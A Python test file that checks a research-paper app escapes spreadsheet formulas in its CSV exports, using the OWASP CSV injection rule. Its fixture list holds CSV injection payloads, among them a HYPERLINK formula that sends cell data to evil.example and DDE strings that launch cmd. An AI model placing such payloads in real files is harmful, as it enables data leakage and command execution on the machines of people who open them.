"""CSV exports are safe to open in a spreadsheet (issue 20, point 8): a cell starting with
= + - @ tab or CR gets a leading single quote (OWASP's CSV injection rule), in every export
(library, search run, stream report), and our own reader takes it off again."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from pathlib import Path

from fastapi.testclient import TestClient

from scholarstream.bootstrap import create_app
from scholarstream.db import upgrade
from scholarstream.papers import Author, Paper
from scholarstream.papers.formats import RecordProblem, read_stream, spreadsheet_safe
from scholarstream.search.core import PaperCollection, ScoredPaper, export_collection
from scholarstream.settings import load_settings
from scholarstream.streams.monitoring import Report, ReportCounts, ReportItem, export_report
from tests.helpers import make_runtime

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
"""Titles as a live source or an imported file may carry them (a record's text is
stripped, so a leading tab or CR reaches the writer only through ``spreadsheet_safe``'s
own test)."""


def hostile_papers() -> list[Paper]:
    return [
        Paper(
            title=title,
            authors=[Author(name="=Evil, Eve")],
            venue="@Journal",
            abstract="-starts with a dash",
            keywords=["=1+1"],
        )
        for title in HOSTILE
    ]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_neutralised(text: str, count: int) -> None:
    table = rows(text)
    assert len(table) == count
    for row in table:
        for column in ("title", "authors", "venue", "abstract", "keywords"):
            cell = row[column]
            assert cell.startswith("'"), (column, cell)
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [row["title"] for row in table] == [f"'{title}" for title in HOSTILE]


def test_spreadsheet_safe_follows_the_owasp_rule() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}x") == f"'{start}x"
    for plain in ("Taurine", "10.1000/x", " =spaced", "", "'quoted"):
        assert spreadsheet_safe(plain) == plain


def test_library_export_api_neutralises_formula_cells(data_dir: Path) -> None:
    settings = load_settings(data_dir=data_dir)
    upgrade(settings.app_database_url)
    ris = "".join(
        f"TY  - JOUR\nTI  - {title}\nAU  - =Evil, Eve\nT2  - @Journal\n"
        f"AB  - -starts with a dash\nKW  - =1+1\nER  - \n\n"
        for title in HOSTILE
    )
    with TestClient(create_app(make_runtime(settings)), base_url="http://127.0.0.1") as client:
        posted = client.post(
            "/api/v1/library/imports",
            files={"file": ("hostile.ris", ris.encode())},
            headers={"Origin": "http://127.0.0.1"},
        )
        assert posted.status_code == 201 and posted.json()["imported"] == len(HOSTILE), posted.text
        response = client.get("/api/v1/library/export", params={"format": "csv"})
    assert response.status_code == 200
    table = rows(response.text)
    assert sorted(row["title"] for row in table) == sorted(f"'{t}" for t in HOSTILE)
    for row in table:
        for column in ("title", "authors", "venue", "abstract", "keywords"):
            assert row[column].startswith("'"), (column, row[column])

    # Our own reader takes the quote off: an export imports back to the same values.
    back = [
        item
        for item in read_stream(io.BytesIO(response.content), "export.csv")
        if not isinstance(item, RecordProblem)
    ]
    assert sorted(p.title for p in back) == sorted(HOSTILE)


def test_search_run_export_neutralises_formula_cells() -> None:
    collection = PaperCollection(
        question="taurine",
        papers=[
            ScoredPaper(id=f"p{n}", record=paper, score=0.5)
            for n, paper in enumerate(hostile_papers())
        ],
    )
    out = io.StringIO()
    assert export_collection(collection, "csv", out) == len(HOSTILE)
    assert_neutralised(out.getvalue(), len(HOSTILE))


def test_stream_report_export_neutralises_formula_cells() -> None:
    papers = hostile_papers()
    report = Report(
        stream_id=uuid.uuid4(),
        stream_name="Taurine watch",
        since=dt.date(2024, 1, 1),
        items=[
            ReportItem(key=f"k{n}", record=paper, score=0.5, reason="why", sources=["pubmed"])
            for n, paper in enumerate(papers)
        ],
        counts=ReportCounts(
            found=len(papers),
            distinct=len(papers),
            duplicates_dropped=0,
            already_reported=0,
            new=len(papers),
            by_source={"pubmed": len(papers)},
        ),
    )
    out = io.StringIO()
    assert export_report(report, "csv", out) == len(HOSTILE)
    assert_neutralised(out.getvalue(), len(HOSTILE))
